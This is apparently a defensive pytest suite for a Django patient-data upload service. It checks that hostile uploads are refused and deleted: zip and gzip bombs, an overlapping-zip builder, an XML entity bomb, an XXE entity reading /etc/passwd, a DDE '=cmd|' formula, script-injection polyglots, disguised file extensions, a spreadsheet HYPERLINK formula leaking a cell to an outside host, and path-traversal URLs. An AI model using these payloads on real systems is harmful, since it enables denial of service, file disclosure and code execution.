"""Files and bodies under attack, besides what `test_partnership_uploads.py` holds: what lies about its length, hides in another file, is
of two kinds at once, or comes where nobody asked for it."""

import gzip
import io
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from headwater.partnership.models import Build, Organisation, Role, Token, Upload
from web.conftest import signed_in, somebody
from web.served import carry_out_all, left_in_quarantine, patients, sent_and_checked
from web.test_partnership_uploads import EICAR, infirmary, sender, workspace, zipped

pytestmark = pytest.mark.one_database

__all__ = ["infirmary", "sender", "workspace"]
GIB2 = 2 << 30
MULTIPART = "multipart/form-data; boundary=x"


class Endless(io.BytesIO):
    """A body without an end, which counts what was read of it."""

    def __init__(self, begins: bytes = b"") -> None:
        super().__init__(begins)
        self.taken = 0

    def read(self, size: int | None = -1, /) -> bytes:
        piece = super().read(size) or b"9" * (size if size and size > 0 else 1 << 16)
        self.taken += len(piece)
        assert self.taken < 64 << 20, "it would have been read to its end, which it has not"
        return piece


def deliver(client: Client, address: str, body: Endless, **said: Any) -> Any:
    client.raise_request_exception = False
    return client.generic("POST", address, **{"wsgi.input": body}, **said)


BODIES = {
    "a file of 2 GB": {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": MULTIPART},
    "boxes of 2 GB": {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": "application/x-www-form-urlencoded"},
    "2 GB of another kind": {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": "application/octet-stream"},
    "a file of 2 GB under another spelling": {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": "Multipart/Form-Data; boundary=x"},
    "a length that is no number": {"CONTENT_LENGTH": "2e9", "CONTENT_TYPE": MULTIPART},
    "a length below nought": {"CONTENT_LENGTH": "-1", "CONTENT_TYPE": MULTIPART},
    "no length": {"CONTENT_LENGTH": "", "CONTENT_TYPE": MULTIPART},
    "no boundary": {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": "multipart/form-data"},
}  # fmt: skip


@pytest.mark.parametrize("what", BODIES)
def test_a_body_that_is_too_long_is_left_unread(
    what: str, infirmary: Organisation, sender: Client, settings: Any
) -> None:
    for address in (reverse("send", args=[infirmary.slug]), reverse("end_role", args=[1]), "/account/login/"):
        body = Endless()
        answer = deliver(sender, address, body, **BODIES[what])
        assert 300 <= answer.status_code < 500 or answer.status_code == 200, (address, answer.status_code)
        assert body.taken <= settings.DATA_UPLOAD_MAX_MEMORY_SIZE, address
    assert not Upload.objects.exists()
    assert left_in_quarantine(settings) == []


def test_a_program_sends_no_body_either(infirmary: Organisation, settings: Any) -> None:
    from headwater.partnership import actions

    cut = actions.make_token(
        by=somebody(Role.CONTRIBUTOR, infirmary), name="x", powers=["read who is at the table"], days=7
    )
    client, body = Client(headers={"Authorization": f"Bearer {cut.secret}"}), Endless()
    assert Token.objects.exists()
    for method in ("POST", "GET"):
        said: dict[str, Any] = {"CONTENT_LENGTH": str(GIB2), "CONTENT_TYPE": "application/json", "wsgi.input": body}
        assert client.generic(method, "/api/v1/organisations", **said).status_code in (200, 405)
    assert body.taken == 0


def test_a_length_that_lies_is_believed_and_nothing_after_it_is_read(
    infirmary: Organisation, sender: Client, settings: Any
) -> None:
    """It says 1000 bytes and never ends: what is read is 1000 bytes of a file that did not arrive whole."""
    begun = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\nNHS number\r\n'
    body = Endless(begun)
    answer = deliver(
        sender, reverse("send", args=[infirmary.slug]), body, CONTENT_LENGTH="1000", CONTENT_TYPE=MULTIPART
    )
    assert answer.status_code < 500
    assert body.taken <= 1000
    assert left_in_quarantine(settings) == []


def test_a_file_in_a_box_that_nobody_drew_stays_nowhere(
    workspace: Any, infirmary: Organisation, sender: Client, settings: Any
) -> None:
    """Two files in the one box, and files in boxes there are none of: one upload, and one file left to be checked."""
    files = [SimpleUploadedFile(f"{number}.csv", patients()) for number in range(2)]
    more = {f"box-{number}": SimpleUploadedFile("x.csv", patients()) for number in range(3)}
    answer = sender.post(
        reverse("send", args=[infirmary.slug]), {"file": files, **more, "place": "../..", "state": "landed"}
    )
    assert answer.status_code == 302
    assert Upload.objects.get().state == Upload.State.SENT
    assert len(left_in_quarantine(settings)) == 1
    address = reverse("take_back", args=[Upload.objects.get().pk])
    _ = sender.post(address, {"file": SimpleUploadedFile("x.csv", patients())})
    assert left_in_quarantine(settings) == []


def test_a_hundred_files_at_once_are_refused(infirmary: Organisation, sender: Client, settings: Any) -> None:
    files = [SimpleUploadedFile(f"{number}.csv", b"a,b\n") for number in range(101)]
    sender.raise_request_exception = False
    assert sender.post(reverse("send", args=[infirmary.slug]), {"file": files}).status_code == 413
    assert not Upload.objects.exists()
    assert left_in_quarantine(settings) == []


def overlapping(times: int) -> bytes:
    """A zip whose list names one packed file again and again under other names: small to send, long to read."""
    packed = zipped(a__csv=b"0" * (9 << 20))
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        end, entry = archive.start_dir, packed[archive.start_dir : packed.rindex(b"PK\x05\x06")]
    list_of = b"".join(entry.replace(b"a.csv", b"%05d" % number) for number in range(times))
    return packed[:end] + list_of + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(list_of), end, 0)


XML_BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 99) for n in range(12)
) + b"]><rows><row>&m;</row></rows>"  # fmt: skip
XML_READS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><rows><row>&a;</row></rows>'
HOSTILE = {
    "a zip in a zip": ("June.zip", zipped(b__zip=zipped(a__csv=patients()))),
    "a zip in a zip under another name": ("June.zip", zipped(b__csv=zipped(a__csv=EICAR))),
    "a zip that is called a table": ("June.csv", zipped(a__csv=patients())),
    "a bomb that is gzipped": ("June.csv.gz", gzip.compress(b"0" * (64 << 20))),
    "a bomb in a bomb": ("June.csv.gz", gzip.compress(gzip.compress(b"0" * (64 << 20)))),
    "a zip that overlaps itself": ("June.zip", overlapping(2_000)),
    "a workbook that is a bomb": ("June.xlsx", zipped(xl__xml=b"0" * (64 << 20))),
    "an XML file that swells": ("June.xml", XML_BOMB),
    "an XML file that reads another": ("June.xml", XML_READS),
    "a workbook that is a page": ("June.xlsx", b"<html><table><tr><td>=cmd|'/c calc'!A1</table>"),
    "a page that begins with a comment": ("June.csv", b"<!-- a,b -->\n<script>alert(1)</script>\n"),
    "a picture that is a page": ("June.csv", b"GIF89a/*<svg onload=alert(1)>*/=1;"),
    "a program with a table's ending": ("June.exe.csv", b"MZ\x90\x00" + b"\x00" * 200),
    "an empty zip": ("June.zip", zipped()),
    "what is no zip": ("June.zip", b"PK\x03\x04 and nothing"),
    "a table of one endless line": ("June.csv", b"a" * (8 << 20)),
    "a table of nothing but quotes": ("June.csv", b'"' * (1 << 20)),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_hides_is_refused_with_a_reason_and_deleted(
    what: str, workspace: Any, infirmary: Organisation, sender: Client, settings: Any
) -> None:
    name, contents = HOSTILE[what]
    upload = sent_and_checked(sender, infirmary, contents, name)
    assert upload.state == Upload.State.REFUSED, (upload.state, Build.objects.get().said)
    assert upload.why
    assert Build.objects.get().state == Build.State.DONE, Build.objects.get().said
    assert left_in_quarantine(settings) == []
    page = sender.get(reverse("upload", args=[upload.pk])).content.decode()
    for told in (upload.why, page):
        assert not [word for word in ("root:", "alert(1)", "onload", "cmd|", EICAR.decode()) if word in told]


@pytest.mark.parametrize(
    "name", ["June.csv.exe", "June.csv.html", "June.csv ", "June.csv.", "June.csv;.exe", "June.csv\u202excod.exe"]
)
def test_an_ending_behind_an_ending_is_the_one_that_counts(
    name: str, infirmary: Organisation, sender: Client, settings: Any
) -> None:
    answer = sender.post(reverse("send", args=[infirmary.slug]), {"file": SimpleUploadedFile(name, patients())})
    taken = answer.status_code == 302
    assert taken == (name.strip(" .") == "June.csv"), answer.status_code
    names = [path.name for path in left_in_quarantine(settings)]
    assert names == (["June.csv"] if taken else [])


def test_a_table_full_of_formulas_is_landed_as_words_or_set_aside(
    workspace: Any, infirmary: Organisation, sender: Client
) -> None:
    """What a spreadsheet would run is only counted: the page repeats no cell."""
    formula = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")'
    contents = patients().replace(b"Harpoon", b'"' + formula.replace('"', '""').encode() + b'"')
    assert formula.encode()[:10] in contents
    upload = sent_and_checked(sender, infirmary, contents)
    page = sender.get(reverse("upload", args=[upload.pk])).content.decode()
    assert upload.state == Upload.State.CHECKED, upload.why
    assert "HYPERLINK" not in page
    assert "1 set aside" in page


def test_nobody_fetches_what_lies_in_the_quarantine(
    workspace: Any, infirmary: Organisation, sender: Client, settings: Any
) -> None:
    _ = sender.post(reverse("send", args=[infirmary.slug]), {"file": SimpleUploadedFile("June.csv", patients())})
    (file,) = left_in_quarantine(settings)
    inside = file.relative_to(Path(settings.WORKSPACE)).as_posix()
    auditor = signed_in(somebody(Role.AUDITOR, Organisation.objects.get(hosts=True)))
    for address in (
        f"/{inside}",
        f"/static/{inside}",
        f"/static/../{inside}",
        f"/assessment/{inside}",
        f"/data/uploads/{file.parent.name}/",
    ):
        assert auditor.get(address).status_code == 404
    assert oct(file.parent.stat().st_mode)[-3:] == "700"
    carry_out_all()
